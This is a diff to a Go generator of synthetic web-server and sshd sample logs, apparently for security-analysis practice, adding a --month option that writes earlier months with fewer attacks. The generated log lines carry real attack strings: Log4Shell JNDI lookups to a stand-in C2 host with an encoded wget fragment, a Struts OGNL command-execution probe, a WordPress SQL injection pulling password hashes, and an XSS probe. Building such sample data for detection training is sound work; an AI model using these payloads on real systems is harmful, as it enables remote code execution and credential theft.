@@ -3,6 +3,12 @@
 //
 //	go run ./generator/cmd/samplelogs --data data
 //
+// With --month an earlier month is written instead (into --data, which is
+// then a scratch folder for samplehistory --logs): the same traffic with
+// fewer attacks the further back it is — none of the Struts and few of the
+// Log4Shell and WP_Query probes two months back — so that the sample
+// history shows attacks growing month by month.
+//
 // web-shop (the order site, Apache, gzip) sees Log4Shell probes aimed at
 // its unpatched log4j-core, a Struts OGNL probe and a scanner, and its
 // sshd "secure" log a burst of failed logins and a root login at night;
@@ -49,9 +55,16 @@ func (l line) String() string {
 
 func main() {
 	data := flag.String("data", "data", "snapshot folder")
+	month := flag.String("month", "2026-11", "month of the logs (YYYY-MM); earlier months carry fewer attacks")
 	flag.Parse()
+	start, err := time.ParseInLocation("2006-01", *month, jst)
+	if err != nil || start.After(time.Date(2026, 11, 1, 0, 0, 0, 0, jst)) {
+		fmt.Fprintln(os.Stderr, "samplelogs: --month must be YYYY-MM, 2026-11 or earlier")
+		os.Exit(2)
+	}
+	// level 2 is the sample month; each month back drops some attacks
+	level := 2 - (2026-start.Year())*12 - int(11-start.Month())
 	rng := rand.New(rand.NewPCG(20261130, 1))
-	start := time.Date(2026, 11, 1, 0, 0, 0, 0, jst)
 	at := func(day, hour, min, sec int) time.Time {
 		return start.AddDate(0, 0, day-1).Add(time.Duration(hour*3600+min*60+sec) * time.Second)
 	}
@@ -74,15 +87,17 @@ func main() {
 				"GET " + path, 200, p.size + rng.IntN(64), "", agents[rng.IntN(len(agents))]})
 		}
 	}
-	for _, d := range []int{4, 11, 11, 18, 25, 29} {
+	for _, d := range [][]int{nil, {11, 25}, {4, 11, 11, 18, 25, 29}}[max(level, 0)] {
 		shop = append(shop, line{at(d, 2, 14, 7), "203.0.113.77", "GET /", 200, 8412, "", "${jndi:ldap://c2.attacker.example:1389/Basic/Command/Base64/d2dldCBodHRw}"})
 		shop = append(shop, line{at(d, 2, 14, 9), "203.0.113.77", "GET /order/list.action?x=${jndi:ldap://c2.attacker.example/a}", 200, 15320, "", chrome})
 	}
-	shop = append(shop, line{at(21, 3, 40, 0), "192.0.2.200", "GET /order/%24%7B%28%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29.%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D/list.action", 404, 1024, "", chrome})
+	if level >= 2 {
+		shop = append(shop, line{at(21, 3, 40, 0), "192.0.2.200", "GET /order/%24%7B%28%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29.%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D/list.action", 404, 1024, "", chrome})
+	}
 	for i := 0; i < 5; i++ {
 		shop = append(shop, line{at(14, 23, 1, i), "192.0.2.150", "GET /admin/config.php.bak", 404, 320, "", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:00000" + fmt.Sprint(i) + ")"})
 	}
-	write(*data, "logs/web-shop/access_log-202611.gz", sortLines(shop), true)
+	write(*data, "logs/web-shop/access_log-"+start.Format("200601")+".gz", sortLines(shop), true)
 
 	var secure bytes.Buffer
 	for i := 0; i < 40; i++ {
@@ -115,7 +130,7 @@ func main() {
 		}
 	}
 	// CVE-2022-21661 (WP_Query) probes and one answer much larger than usual
-	for i, d := range []int{6, 6, 13, 20, 27} {
+	for i, d := range [][]int{nil, {13, 27}, {6, 6, 13, 20, 27}}[max(level, 0)] {
 		size := 212
 		if i == 3 {
 			size = 48211
@@ -124,7 +139,7 @@ func main() {
 			"GET /wp-admin/admin-ajax.php?action=ecsload&query_vars%5Btax_query%5D%5B1%5D%5Bterms%5D%5B1%5D=1%29%20and%20updatexml%281%2Cconcat%280x7e%2C%28select%20user_pass%20from%20wp_users%20limit%201%29%29%2C1%29--%20",
 			200, size, "", chrome})
 	}
-	for i := 0; i < 3; i++ {
+	for i := 0; i < []int{1, 1, 3}[max(level, 0)]; i++ {
 		rec = append(rec, line{at(16+i, 22, 30, 0), "192.0.2.31", "GET /entry/confirm?name=%3Cscript%3Ealert(document.domain)%3C/script%3E", 403, 512, "", chrome})
 	}
 	write(*data, "logs/web-recruit/access.log", sortLines(rec), false)
